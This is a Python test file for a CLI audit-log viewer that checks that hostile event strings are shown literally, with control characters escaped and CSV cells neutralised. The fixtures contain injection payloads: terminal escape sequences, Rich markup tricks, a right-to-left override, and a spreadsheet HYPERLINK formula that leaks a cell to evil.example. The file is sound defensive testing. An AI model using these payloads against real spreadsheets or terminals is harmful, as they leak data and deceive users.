"""`auditkit events` on hostile event text (issue 13): the table shows event strings literally (never as Rich
markup) with control characters escaped, CSV cells are neutralised, filters that look like markup or reach the end
of time work, and arguments that are not UTF-8 get one clear line."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys

import pytest
from click.testing import CliRunner

from auditkit import store
from auditkit.cli import main
from auditkit.model.safe_text import is_printable
from helpers import ROOT, draft

HOSTILE = [
    draft(app="[/]", description="closing [/] tag", actor="[bold]mallory[/bold]@example.com"),
    draft(app="[link=https://evil.example]safe[/link]", description="[link=https://evil.example]safe[/link]"),
    draft(description="[black on black]hidden text[/]"),
    draft(description="evil\x1b]0;pwned\x07\x1b[2J", target='=HYPERLINK("http://evil.example/?leak="&B2,"Click")'),
    draft(app="+cmd", target="-2+3", user_agent="@SUM(1)", description="\u202eexe.txt"),
]


@pytest.fixture
def hostile_db(db_path):
    conn = store.open_db(db_path)
    store.append(conn, HOSTILE, source=store.LOCAL_SOURCE)
    conn.close()
    return db_path


def events(db, *args):
    return CliRunner().invoke(main, ["events", "--db", str(db), *args])


def test_the_table_shows_markup_literally_and_escapes_control_characters(hostile_db):
    result = events(hostile_db)
    assert result.exit_code == 0, result.output
    out = result.output
    assert "[black on black]hidden text[/]" in out
    assert "[link=https://evil.example]safe[/link]" in out
    assert "[bold]mallory[/bold]@ex…" in out  # cut at the column width, not rendered bold
    assert "evil\\x1b]0;pwned\\x07\\x1b[2J" in out
    assert "\\u202eexe.txt" in out
    assert is_printable(out.replace("\n", "")), repr(out)
    assert "5 newest of 5 events in the mirror" in out


def test_a_filter_that_looks_like_markup_is_a_filter(hostile_db):
    result = events(hostile_db, '"[/]"')
    assert result.exit_code == 0, result.output
    assert "closing [/] tag" in result.output
    assert "matching [/]" in result.output


def test_csv_cells_are_neutralised_and_json_lines_are_exact(hostile_db):
    result = events(hostile_db, "--format", "csv")
    assert result.exit_code == 0, result.output
    assert is_printable(result.output.replace("\n", ""))
    rows = list(csv.DictReader(io.StringIO(result.output)))
    by_id = {row["id"]: row for row in rows}
    formula = by_id[HOSTILE[3].id]
    assert formula["target"] == "'" + HOSTILE[3].target
    assert formula["description"] == "evil\\x1b]0;pwned\\x07\\x1b[2J"
    assert by_id[HOSTILE[4].id]["app"] == "'+cmd"
    assert by_id[HOSTILE[4].id]["target"] == "'-2+3"
    assert by_id[HOSTILE[4].id]["user_agent"] == "'@SUM(1)"
    jsonl = events(hostile_db, "--format", "jsonl")
    assert is_printable(jsonl.output.replace("\n", ""))
    parsed = {row["id"]: row for row in map(json.loads, jsonl.output.splitlines())}
    assert parsed[HOSTILE[3].id]["description"] == HOSTILE[3].description
    assert parsed[HOSTILE[4].id]["description"] == HOSTILE[4].description


@pytest.mark.parametrize("words", [["until:9999-12-31"], ["since:0001-01-01", "until:9999-12-31T23:59:59.999Z"]])
def test_the_last_representable_day_is_a_valid_bound(hostile_db, words):
    result = events(hostile_db, *words)
    assert result.exit_code == 0, result.output
    assert "5 newest of 5 events" in result.output


def test_a_filter_error_quoting_an_escape_shows_it_escaped(hostile_db):
    result = events(hostile_db, "action:\x1b[2J")
    assert result.exit_code == 2
    assert "unknown action '\\x1b[2J'" in result.output
    assert "\x1b" not in result.output


def test_an_argument_that_is_not_utf8_is_one_clear_line(hostile_db):
    done = subprocess.run([sys.executable, "-m", "auditkit.cli", "events", "--db", str(hostile_db).encode(),
                           b"app:\xff\xfe"], capture_output=True, cwd=ROOT)
    assert done.returncode == 2, done.stderr
    assert done.stderr == b"Error: argument 4 is not valid UTF-8: app:\\xff\\xfe\n"
